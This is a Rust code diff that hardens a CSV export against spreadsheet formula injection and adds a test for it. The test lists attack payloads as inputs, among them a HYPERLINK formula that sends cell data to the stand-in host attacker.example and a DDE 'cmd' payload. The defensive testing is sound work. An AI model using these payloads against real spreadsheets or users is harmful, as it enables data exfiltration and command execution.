@@ -107,9 +107,28 @@ pub fn status_before(row: &AdminRow, expired_before: Option<&str>) -> &'static s
 
 const CSV_HEADER: &str = "seq,id,issued_at,site,kind,event,status,policy_version,lang,form_id,ref,withdrawn_by,withdrawn_at,superseded_by,subject_erased,kid,jws\r\n";
 
+/// Whether a spreadsheet reads `value` as a formula: it begins with a formula character
+/// (`receipt::FORMULA_LEADS`, the rule input validation applies to names) or a control
+/// character (OWASP, "CSV Injection", names tab and carriage return; OWASP ASVS 5.0 1.2.10
+/// adds NUL).
+fn is_formula(value: &str) -> bool {
+    value
+        .chars()
+        .next()
+        .is_some_and(|c| receipt::FORMULA_LEADS.contains(&c) || c.is_control())
+}
+
+/// One cell: RFC 4180 quoting, and a text that a spreadsheet would run as a formula is
+/// neutralised with a leading `'` (OWASP's advice), which shows it as the text it is. Input
+/// validation refuses such form ids and field names today; receipts stored before it did,
+/// and any column added later, are covered here.
 fn csv_field(out: &mut String, value: &str) {
-    if value.contains([',', '"', '\n', '\r']) {
+    let formula = is_formula(value);
+    if formula || value.contains([',', '"', '\n', '\r']) {
         out.push('"');
+        if formula {
+            out.push('\'');
+        }
         out.push_str(&value.replace('"', "\"\""));
         out.push('"');
     } else {
@@ -312,6 +331,7 @@ mod tests {
                 kid: "k".into(),
                 jws: "a.b.c".into(),
                 withdraws: None,
+                holder_sha256: None,
             },
             withdrawn_by: None,
             superseded_by: None,
@@ -333,6 +353,67 @@ mod tests {
             status(&row("refused", "2026-11-01T00:00:00Z"), None, now),
             "refused"
         );
+    }
+
+    #[test]
+    fn no_text_cell_reaches_a_spreadsheet_as_a_formula() {
+        let formulas = [
+            r#"=HYPERLINK("https://attacker.example/?x="&A2,"Open receipt")"#,
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+1",
+            "-2+3",
+            "\t=1",
+            "\r=1",
+            "＝1+1",
+        ];
+        for formula in formulas {
+            let mut r = row("given", "2026-11-01T00:00:00.000Z");
+            // Every text column at once.
+            r.row.form_id = Some(formula.into());
+            r.row.site = formula.into();
+            r.row.kind = formula.into();
+            r.row.event = formula.into();
+            r.row.policy_version = formula.into();
+            r.row.lang = formula.into();
+            r.row.reference = formula.into();
+            r.row.kid = formula.into();
+            r.row.id = formula.into();
+            r.row.issued_at = formula.into();
+            r.superseded_by = Some(formula.into());
+            r.withdrawn_by = Some((formula.into(), formula.into()));
+            let line = csv_line(&r, formula);
+            let mut cells = 0;
+            for cell in split_csv(&line) {
+                cells += 1;
+                assert!(!is_formula(&cell), "{cell:?} in {line:?}");
+            }
+            assert_eq!(cells, CSV_HEADER.split(',').count(), "{line:?}");
+            assert!(
+                line.contains(&format!("\"'{}\"", formula.replace('"', "\"\""))),
+                "{line}"
+            );
+        }
+    }
+
+    /// The cells of one RFC 4180 record, unquoted.
+    fn split_csv(line: &str) -> Vec<String> {
+        let mut cells = Vec::new();
+        let mut cell = String::new();
+        let mut quoted = false;
+        let mut chars = line.trim_end_matches("\r\n").chars().peekable();
+        while let Some(c) = chars.next() {
+            match c {
+                '"' if quoted && chars.peek() == Some(&'"') => {
+                    cell.push('"');
+                    chars.next();
+                }
+                '"' => quoted = !quoted,
+                ',' if !quoted => cells.push(std::mem::take(&mut cell)),
+                c => cell.push(c),
+            }
+        }
+        cells.push(cell);
+        cells
     }
 
     #[test]
